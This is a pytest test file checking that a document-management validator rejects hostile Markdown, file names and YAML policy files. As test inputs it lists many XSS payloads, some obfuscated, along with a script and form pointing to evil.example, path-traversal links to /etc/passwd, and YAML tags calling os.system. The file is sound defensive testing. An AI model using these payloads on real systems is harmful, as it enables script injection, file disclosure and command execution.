"""Hostile documents: text that would run, files that are no files, names that deceive; and plain ones beside them."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.approved import CONTROL, TEXTS, fresh
from tests.disk import DiskManual
from tests.memory import document

NEW = "documents/procedures/new.md"

PLAIN = [
    "Use 5 < 6 and a > b; tea & biscuits.\n",
    "`<script>alert(1)</script>` is code.\n",
    "```html\n<script>alert(1)</script>\n```\n",
    "    <iframe src='x'></iframe>\n",
    "[a site](https://example.org/?a=1&b=2) and <https://example.org>\n",
    "[mail](mailto:jane.doe@meridian.example)\n",
    "<!-- a comment with <script> in it -->\n",
    "![Flow](flow.svg)\n",
    # No diagram where the first word of a fence is not its language, and no footnote that nothing refers to.
    '```{#a .mermaid}\nflowchart TD\n  A\n  click A "javascript:alert(1)"\n```\n',
    "a\n\n[^1]: b\n\n    ![x](../../.git/config)\n",
]
POINTER = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "0" * 64 + "\nsize 12\n"
RUNNING = [
    "<script>alert(1)</script>\n",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>\n",
    "Text <img src=x onerror=alert(1)> text\n",
    "<svg onload=alert(1)>\n",
    "<iframe src='https://evil.example'></iframe>\n",
    "<style>.qms-stamp{display:none}</style>\n",
    "<a href='javascript:alert(1)'>x</a>\n",
    "<details open ontoggle=alert(1)>\n",
    "<form action='https://evil.example'><input name=p></form>\n",
    "<base href='https://evil.example/'>\n",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>\n",
    '<aside class="qms-stamp" data-id="QP-009">Approved</aside>\n',
    "- item\n\n    <b onclick=alert(1)>x</b>\n",
    "> <b onclick=alert(1)>x</b>\n",
    "| a |\n|---|\n| <b onclick=alert(1)>x</b> |\n",
    "[x](javascript:alert(1))\n",
    "[x](JaVaScRiPt:alert(1))\n",
    "[x](&#106;avascript:alert(1))\n",
    "[x](java&#115;cript&colon;alert(1))\n",
    "[x](<javascript:alert(1)>)\n",
    "[x](vbscript:msgbox(1))\n",
    "[x](data:text/html;base64,PHNjcmlwdD4=)\n",
    "![x](javascript:alert(1))\n",
    "[x][y]\n\n[y]: javascript:alert(1)\n",
    "<javascript:alert(1)>\n",
    "a\n:   b\n\n    [x](javascript:alert(1))\n",
    "a[^1]\n\n[^1]: b\n\n    ![x](../../.git/config)\n",
    '```mermaid {#a}\nflowchart TD\n  A\n  click A "javascript:alert(1)"\n```\n',
    'a\n!!! note\n\n    ```mermaid\n    graph TD\n    A\n    click A "data:text/html,x"\n    ```\n',
    '```mermaid\ngraph TD\n  A\n  click A href "java&#115;cript:alert(1)" "tip"\n```\n',
    '```mermaid\ngraph TD\n  A\n  click A "file:///etc/passwd"\n```\n',
    "[x](file:///etc/passwd)\n",
    "[x](../../../../etc/passwd)\n",
    "[x](/etc/passwd)\n",
    "[x](..%2f..%2f..%2f..%2fetc/passwd)\n",
    "[x](..\\..\\..\\..\\etc\\passwd)\n",
    "![x](../../../../home/secret.png)\n",
    "![x](../../.git/config)\n",
    '--8<-- "../../../../etc/passwd"\n',
    '--8<-- "/etc/passwd"\n',
    '--8<-- "https://evil.example/x.md"\n',
]


def of(place: Path, path: str, text: str | bytes, mode: str = "100644") -> tuple[int, set[str], int | None]:
    """Put a file beside the manual's own; give exit code, rules, and the edition of QP-001 still in force."""
    manual = fresh()
    manual.write(path, text, mode)
    found = DiskManual.of(manual, place).outcome()
    return found.code, found.rules, found.effective("QP-001")


@pytest.mark.parametrize("body", PLAIN)
def test_plain_text_is_plain_text(tmp_path: Path, body: str) -> None:
    assert of(tmp_path, NEW, document("QP-003", body=body)) == (0, set(), 1)


@pytest.mark.parametrize("body", RUNNING)
def test_text_that_would_run_or_lead_out_of_the_manual(tmp_path: Path, body: str) -> None:
    code, rules, edition = of(tmp_path, NEW, document("QP-003", body=body))
    assert (code, edition) == (1, 1)
    assert rules & {"content-unsafe", "link-broken", "asset-missing"}, rules


@pytest.mark.parametrize(
    ("rule", "path", "text", "mode"),
    [
        ("content-unsafe", NEW, "/etc/passwd", "120000"),
        ("content-unsafe", NEW, "../../qmsdoc.yml", "120000"),
        ("content-unsafe", "documents/procedures/sub.md", "", "160000"),
        ("content-unsafe", NEW, POINTER, "100644"),
        ("content-unsafe", "documents/procedures/\u202enew.md", document("QP-003"), "100644"),
        ("content-unsafe", "documents/procedures/new\x1b[2J.md", document("QP-003"), "100644"),
        ("content-unsafe", "documents/procedures/a\\b.md", document("QP-003"), "100644"),
        ("front-matter-invalid", NEW, "\ufeff" + document("QP-003"), "100644"),
        (
            "front-matter-invalid",
            NEW,
            document("QP-003", title="!!python/object/apply:os.system ['touch x']"),
            "100644",
        ),
        ("front-matter-invalid", NEW, document("QP-003", change="&a [*a, *a]", revision=2), "100644"),
        ("front-matter-invalid", NEW, document("QP-003", id="QP-001\nid: QP-003"), "100644"),
        ("front-matter-invalid", NEW, "---\nid: QP-003\n", "100644"),
        ("content-unsafe", NEW, document("QP-003", title="A\u202eB"), "100644"),
        ("id-duplicate", NEW, document("QP-001"), "100644"),
        ("id-pattern", NEW, document("qp-002"), "100644"),
        ("id-pattern", NEW, document("QP-003/../../x"), "100644"),
        ("id-pattern", NEW, document("QP-\u041e03"), "100644"),
        ("id-pattern", NEW, document("register", type="form"), "100644"),
        ("id-pattern", NEW, document("POLICY", type="policy"), "100644"),
        ("id-pattern", "documents/forms/new.md", document("QP-003"), "100644"),
    ],
)
def test_files_that_are_none_and_names_that_deceive(tmp_path: Path, rule: str, path: str, text: str, mode: str) -> None:
    code, rules, edition = of(tmp_path, path, text, mode)
    assert (code, edition) == (1, 1)
    assert rule in rules, rules


def test_a_picture_that_is_kept_elsewhere_is_none(tmp_path: Path) -> None:
    manual = fresh()
    manual.write("documents/procedures/x.png", POINTER)
    manual.write(NEW, document("QP-003", body="![x](x.png)\n"))
    found = DiskManual.of(manual, tmp_path).outcome()
    assert (found.code, found.rules) == (1, {"content-unsafe"})


def test_what_an_included_file_includes_is_signed_though_it_is_also_linked(tmp_path: Path) -> None:
    manual = fresh()
    manual.write("documents/procedures/inner.txt", "Five years.\n")
    manual.write("documents/procedures/outer.txt", '--8<-- "inner.txt"\n')
    manual.write(NEW, document("QP-003", body='--8<-- "outer.txt"\n\n[The same](outer.txt)\n'))
    manual.commit("2026-01-20")
    manual.approve("QP-003", on="2026-01-21")
    assert DiskManual.of(manual, tmp_path / "honest").outcome().code == 0
    manual.write("documents/procedures/inner.txt", "Two years.\n")
    manual.commit("2026-01-22")
    found = DiskManual.of(manual, tmp_path / "changed").outcome()
    assert (found.code, found.rules) == (1, {"changed-without-revision"})


def test_a_folder_of_documents_behind_a_link_is_not_read(tmp_path: Path) -> None:
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "evil.md").write_text(document("QP-003", body="Outside.\n"))
    manual = fresh()
    manual.write("documents/linked", str(tmp_path / "outside"), "120000")
    found = DiskManual.of(manual, tmp_path).outcome()
    assert found.snapshot is not None
    assert found.snapshot.record("QP-003") is None


@pytest.mark.parametrize("text", ["vandalised", "", "\x00" * 99, "---\n" * 9, document("QP-009"), "<script>"])
def test_whatever_becomes_of_its_file_an_approved_text_stays(tmp_path: Path, text: str) -> None:
    manual = fresh()
    manual.write(CONTROL, text)
    manual.commit("2026-01-20")
    found = DiskManual.of(manual, tmp_path).outcome()
    assert found.code == 1
    assert found.snapshot is not None
    record = found.snapshot.record("QP-001")
    assert record is not None
    assert record.effective is not None
    assert record.effective.document.data == TEXTS[CONTROL].encode()


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("qmsdoc.yml", b"manual: !!python/object/apply:os.system ['touch x']\n"),
        ("qmsdoc.yml", b"a: &a [x]\nb: *a\n"),
        ("qmsdoc.yml", b"\xff\xfe"),
        ("people.yml", b"people: {jane.doe: {name: Jane, roles: {x: {from: 2022-30-09}}}}\n"),
        ("people.yml", b""),
        ("allowed_signers", b"\x00\x01"),
    ],
)
def test_a_policy_that_cannot_be_read_leaves_the_former_in_force(tmp_path: Path, path: str, text: bytes) -> None:
    code, rules, edition = of(tmp_path, path, text)
    assert (code, "policy-invalid" in rules, edition) == (2, True, 1)
